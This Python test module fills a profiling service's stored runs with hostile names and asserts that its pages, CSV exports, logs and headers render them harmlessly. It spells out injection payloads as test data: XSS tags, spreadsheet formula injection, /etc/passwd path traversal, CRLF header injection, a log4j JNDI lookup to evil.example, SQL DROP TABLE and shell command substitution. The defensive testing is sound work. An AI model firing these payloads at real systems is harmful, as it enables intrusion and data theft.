"""Names that attack what shows them, a store that is full of them, and what must hold of everything that shows it.

``fill`` makes two runs whose kernels, processes, hosts, windows of power, tags, files and everything else have such
names. Then every page, export, log line and mail is made of them, and held to be ``harmless``:

    from tests.robustness import hostile
    runs = hostile.fill(engine)
    hostile.html(page); hostile.csv_text(text); hostile.terminal(text); hostile.markdown(text); hostile.header(value)

Each raises `AssertionError` with the place. A form that keeps texts as they came (JSON, NDJSON, Parquet) is compared.
"""

import csv
import gzip
import io
import json
import re
from html.parser import HTMLParser
from pathlib import Path

from sqlalchemy import Engine

from profsvc import pipeline, store
from tests.views import power_logs

# What may stand in a file. Nothing of it may act; all of it must come back as it is where data is asked for.
NAMES = {
    "script": '<script>alert(1)</script>,"=cmd|x"&\u202e',
    "attribute": "\" onmouseover='alert(1)' x=\"`",
    "image": "<img src=x onerror=alert(1)><svg/onload=alert(1)>",
    "comment": "--><!--]]><![CDATA[</style></textarea></title>",
    "formula": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "traversal": "../../../../etc/passwd",
    "encoded": "..%2f..%2fetc%2fpasswd%00.csv?x=1#y",
    "windows": "..\\..\\C:\\Windows\\con|nul:",
    "crlf": "a\r\nSet-Cookie: session=evil\r\nBcc: evil@example.com\r\n\r\n<b>body</b>",
    "terminal": "-2+3\x1b]0;owned\x07\x1b[2J\x1b[31m\x08\x7f\x9b1m| [a](javascript:alert(1)) `b` *c* _d_ ![e](f)",
    "turned": "\u202egnp.exe\u202c\u2066x\u2069\u200f\u2028\u2029\u200b\ufeff",
    "mail": "=?utf-8?q?=0ABcc:_evil@example.com?=",
    "template": "{{7*7}}${7*7}#{7*7}<%= 7*7 %>%(x)s%n%s{0.__class__}",
    "log4j": "${jndi:ldap://evil.example/a}",
    "sql": "'; DROP TABLE runs; --",
    "shell": "$(touch /tmp/owned)`touch /tmp/owned`;|&&",
    "link": "javascript:alert(1)//http://evil.example/<http://evil.example>",
    "astral": "\U0001f4a9\U000e0001\u0301\u0301 \u00df\u0130\ufdfa",
    "megabyte": "k" * 1_000_000,
}
SHORT = {label: name for label, name in NAMES.items() if len(name) < 500}
# No text of a store holds them, so they are refused or shown as escapes wherever they come in.
NO_TEXT = {"nul": "a\0b", "surrogate": "a\ud800b"}
RUN = NAMES["formula"] + "<i>\r\nSet-Cookie: a=b"
ROOT = Path(__file__).parents[2]
PLAIN = ROOT / "fixtures" / "ncu_raw" / "plain.csv"
DETAILS = ROOT / "fixtures" / "ncu_details" / "h200_three_launches_min.csv.gz"


def profile(names: dict[str, str] = NAMES, salt: str = "") -> bytes:
    """Return a raw page of Nsight Compute, a launch a name; its process and host have such names too."""
    header, units, launch = list(csv.reader(io.StringIO(PLAIN.read_text(encoding="utf-8"))))[:3]
    out, shown = io.StringIO(), list(SHORT.values())
    writer = csv.writer(out, quoting=csv.QUOTE_ALL)
    writer.writerows([header, units])
    for number, name in enumerate(names.values()):
        row = dict(zip(header, launch, strict=True)) | {"ID": str(number), "Kernel Name": name}
        row |= {"Process Name": shown[number % len(shown)] + salt, "Host Name": shown[-1 - number % len(shown)]}
        writer.writerow([row[column] for column in header])
    return out.getvalue().encode()


def advice() -> bytes:
    """Return a details page whose sections, metrics, units and words of advice have such names."""
    lines = list(filter(None, csv.reader(io.StringIO(gzip.decompress(DETAILS.read_bytes()).decode()))))
    header, rows, shown = lines[0], lines[1:], list(SHORT.values())
    for number, line in enumerate(rows):
        row = dict(zip(header, line, strict=False))
        attacked = "Rule Description" if row["Rule Name"] else "Metric Name"
        if number % 3 == 0:
            line[header.index(attacked)] = shown[number // 3 % len(shown)]
    out = io.StringIO()
    csv.writer(out, quoting=csv.QUOTE_ALL).writerows([header, *rows])
    return out.getvalue().encode()


def marks() -> bytes:
    """Return the marks of a run of power, a phase with such a name each."""
    rows = list(csv.reader(io.StringIO(power_logs.marks())))
    loads, names = iter(SHORT.values()), {}
    for row in rows[2:]:
        if row[1] == "begin" and row[2] != "idle":
            names[row[3]] = next(loads).replace("\r\n", " ")
        row[2] = names.get(row[3], row[2])
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


def fill(engine: Engine) -> list[int]:
    """Upload two runs of such files under such names; return their numbers."""
    numbers = []
    for salt, name in (("", RUN), ("2", "<b>after</b>\x1b[2J")):
        about = store.RunInfo(
            name=name, project=NAMES["at"], device=None, host=NAMES["image"], commit_id=NAMES["script"][:60],
            tags={"t": NAMES["script"], NAMES["image"]: NAMES["crlf"]},
        )  # fmt: skip
        run_id = pipeline.ingest(engine, io.BytesIO(profile(salt=salt)), NAMES["traversal"] + ".csv", about).run_id or 0
        same = store.RunInfo(run_id=run_id)
        for file, data in (
            (NAMES["crlf"], advice() + salt.encode() * 3),
            (NAMES["image"], power_logs.log(float(len(salt))).encode()),
            (NAMES["script"], marks() + f"# {salt}\n".encode()),
        ):
            pipeline.ingest(engine, io.BytesIO(data), file, same, pipeline.ReadOptions(zone="UTC"))
        numbers.append(run_id)
    return numbers


class _Elements(HTMLParser):
    """Gathers what acts in a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.acts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note elements and attributes that names must not make."""
        said = dict(attrs)
        if tag in {"img", "image", "iframe", "object", "embed", "base", "form"} and "x" in {said.get("src")}:
            self.acts.append(f"<{tag}>")
        if tag == "script" and "src" not in said and said.get("type") != "application/json":
            self.acts.append("<script> of words")
        for name, value in attrs:
            if name.startswith("on"):
                self.acts.append(f"{tag} {name}={value!r:.40}")
            if name in {"href", "src", "action", "formaction", "srcset"} and re.match(
                r"[\x00-\x20]*(javascript|vbscript|data:text)", value or "", re.IGNORECASE
            ):
                self.acts.append(f"{tag} {name}={value!r:.40}")


def html(page: str) -> None:
    """Hold a page: no name made an element or an attribute that acts, and none turns its text or ends its lines."""
    found = _Elements()
    found.feed(page)
    found.close()
    assert found.acts == []
    for label in ("script", "image"):
        assert NAMES[label][:20] not in page, label
    assert not (seen := re.search("[\u202a-\u202e\u2066-\u2069\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", page)), seen


def csv_text(text: str) -> list[list[str]]:
    """Hold a CSV: it is one for a strict reader, and no field is what a spreadsheet runs; return its rows."""
    csv.field_size_limit(1 << 24)
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    for row in rows:
        for field in row:
            assert not re.match(r"[=+@\t\r\0]|-[^\d.]", field) or re.fullmatch(r"\+?[\d.eE+-]+", field), field[:60]
    assert len({len(row) for row in rows}) <= 1
    return rows


def terminal(text: str) -> None:
    """Hold what a person reads on a terminal: nothing in it but printable characters and line ends."""
    acts = [character for character in text if not (character.isprintable() or character == "\n")]
    assert acts == [], acts[:5]


def markdown(text: str) -> None:
    """Hold Markdown: no element, no link, no image, no code, and every row of a table with as many cells."""
    terminal(text)
    assert "<" not in text.replace("<br>", "")
    assert not re.search(r"(?<!\\)[`\[\]*]", text.replace("---|", ""))
    tables = [line for line in text.splitlines() if line.startswith("|")]
    assert len({len(re.findall(r"(?<!\\)\|", line)) for line in tables}) <= 1


def header(value: str) -> None:
    """Hold a header of an answer or of a mail: one line of printable ASCII."""
    assert value.isascii(), value[:60]
    assert value.isprintable(), value[:60]


def log_lines(text: str, events: int) -> None:
    """Hold a log: so many lines, each a JSON object in printable ASCII."""
    lines = text.splitlines()
    assert len(lines) == events, lines[:3]
    for line in lines:
        header(line)
        assert isinstance(json.loads(line), dict)
